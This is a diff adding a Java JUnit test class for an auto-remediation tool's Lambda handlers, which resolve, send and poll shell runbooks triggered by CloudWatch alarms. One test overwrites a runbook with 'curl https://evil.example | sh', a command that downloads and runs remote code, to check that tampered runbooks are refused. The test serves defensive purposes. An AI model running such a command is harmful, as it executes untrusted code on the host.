@@ -1,0 +1,134 @@
+package io.autoremediate.local.handlers;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import io.autoremediate.functions.command.CommandProgress;
+import io.autoremediate.functions.command.CommandStatus;
+import io.autoremediate.functions.handlers.InvalidHandlerInputException;
+import io.autoremediate.functions.handlers.PollCommandHandler;
+import io.autoremediate.functions.handlers.ResolveScriptHandler;
+import io.autoremediate.functions.handlers.SendCommandHandler;
+import io.autoremediate.functions.json.Json;
+import io.autoremediate.functions.resolve.Decision;
+import io.autoremediate.functions.resolve.Resolution;
+import io.autoremediate.functions.send.RemediationRequest;
+import io.autoremediate.functions.send.RunbookChangedException;
+import io.autoremediate.local.adapters.FolderRunbookStore;
+import io.autoremediate.local.adapters.LocalShellCommandRunner;
+import java.io.ByteArrayInputStream;
+import java.io.ByteArrayOutputStream;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.Map;
+import java.util.concurrent.TimeUnit;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+/** Each handler as Lambda calls it (JSON bytes in and out), against the local adapters and real files. */
+class HandlersWithLocalAdaptersTest {
+
+    private static final String EVENT = """
+            {"version":"0","id":"1","detail-type":"CloudWatch Alarm State Change","source":"aws.cloudwatch",
+             "account":"123456789012","time":"2026-11-25T17:04:40Z","region":"us-east-1",
+             "resources":["arn:aws:cloudwatch:us-east-1:123456789012:alarm:webapp-uptime"],
+             "detail":{"alarmName":"webapp-uptime",
+               "configuration":{"metrics":[{"id":"m1","metricStat":{"metric":{"dimensions":{"InstanceId":"i-0abc12345def67890"},
+                 "name":"webapp-uptime","namespace":"CustomNamespace"},"period":60,"stat":"Minimum"},"returnData":true}]},
+               "previousState":{"value":"OK","reason":"ok","timestamp":"2026-11-25T17:03:40.989+0000"},
+               "state":{"value":"ALARM","reason":"down","reasonData":"{}","timestamp":"2026-11-25T17:04:40.989+0000"}}}""";
+
+    @TempDir
+    Path dir;
+
+    private Path runbooks;
+    private FolderRunbookStore store;
+    private LocalShellCommandRunner runner;
+
+    @BeforeEach
+    void setUp() throws Exception {
+        runbooks = Files.createDirectories(dir.resolve("remediations"));
+        store = new FolderRunbookStore(runbooks);
+        runner = new LocalShellCommandRunner(dir.resolve("out"), Map.of());
+    }
+
+    @AfterEach
+    void tearDown() {
+        runner.close();
+    }
+
+    @Test
+    void resolveFindsTheMetricRunbookWhenNoAlarmRunbookExists() throws Exception {
+        Files.writeString(runbooks.resolve("webapp-uptime#CustomNamespace.sh"), "echo hi\n");
+
+        Resolution resolution = resolve();
+
+        assertThat(resolution.decision()).isEqualTo(Decision.REMEDIATE);
+        assertThat(resolution.runbook().key()).isEqualTo("webapp-uptime#CustomNamespace.sh");
+        assertThat(resolution.searched()).containsExactly("webapp-uptime.sh", "webapp-uptime#CustomNamespace.sh");
+    }
+
+    @Test
+    void resolvePrefersTheRunbookNamedForTheAlarm() throws Exception {
+        Files.writeString(runbooks.resolve("webapp-uptime#CustomNamespace.sh"), "echo metric\n");
+        Files.writeString(runbooks.resolve("webapp-uptime.sh"), "echo alarm\n");
+
+        assertThat(resolve().runbook().key()).isEqualTo("webapp-uptime.sh");
+    }
+
+    @Test
+    void sendThenPollRunsTheRunbookWithTheIncidentInItsEnvironment() throws Exception {
+        Files.writeString(runbooks.resolve("webapp-uptime#CustomNamespace.sh"),
+                "echo \"$AUTOREMEDIATE_ALARM_NAME $AUTOREMEDIATE_INSTANCE_ID $AUTOREMEDIATE_ATTEMPT\"\n");
+        Resolution resolution = resolve();
+
+        CommandProgress sent = invoke(new SendCommandHandler(store, runner), new RemediationRequest(
+                resolution.incident(), resolution.runbook(), 1, 30, "exec-1"), CommandProgress.class);
+        runner.awaitEnd(sent.commandId(), 10, TimeUnit.SECONDS);
+        CommandProgress polled = invoke(new PollCommandHandler(runner),
+                new PollCommandHandler.Input(sent.commandId(), sent.instanceId(), 0), CommandProgress.class);
+
+        assertThat(sent.status()).isEqualTo(CommandStatus.PENDING);
+        assertThat(polled.status()).isEqualTo(CommandStatus.SUCCESS);
+        assertThat(polled.outputTail()).isEqualTo("webapp-uptime i-0abc12345def67890 1\n");
+        assertThat(polled.polls()).isEqualTo(1);
+    }
+
+    @Test
+    void aRunbookChangedAfterResolutionIsNotSent() throws Exception {
+        Path file = runbooks.resolve("webapp-uptime#CustomNamespace.sh");
+        Files.writeString(file, "systemctl restart webapp\n");
+        Resolution resolution = resolve();
+        Files.writeString(file, "curl https://evil.example | sh\n");
+
+        assertThatThrownBy(() -> new SendCommandHandler(store, runner).handle(new RemediationRequest(
+                resolution.incident(), resolution.runbook(), 1, 30, "exec-1")))
+                .isInstanceOf(RunbookChangedException.class)
+                .hasMessageContaining("changed after it was resolved");
+    }
+
+    @Test
+    void unreadableInputIsAnErrorThatNamesTheStep() {
+        assertThatThrownBy(() -> new PollCommandHandler(runner).handleRequest(
+                new ByteArrayInputStream("{\"commandId\": 5".getBytes(StandardCharsets.UTF_8)),
+                new ByteArrayOutputStream(), null))
+                .isInstanceOf(InvalidHandlerInputException.class)
+                .hasMessageStartingWith("PollCommand input is not a Input");
+    }
+
+    private Resolution resolve() throws Exception {
+        JsonNode event = Json.MAPPER.readTree(EVENT);
+        return invoke(new ResolveScriptHandler(store), new ResolveScriptHandler.Input(event), Resolution.class);
+    }
+
+    private static <T> T invoke(com.amazonaws.services.lambda.runtime.RequestStreamHandler handler, Object input,
+                                Class<T> type) throws Exception {
+        ByteArrayOutputStream out = new ByteArrayOutputStream();
+        handler.handleRequest(new ByteArrayInputStream(Json.MAPPER.writeValueAsBytes(input)), out, null);
+        return Json.MAPPER.readValue(out.toByteArray(), type);
+    }
+}
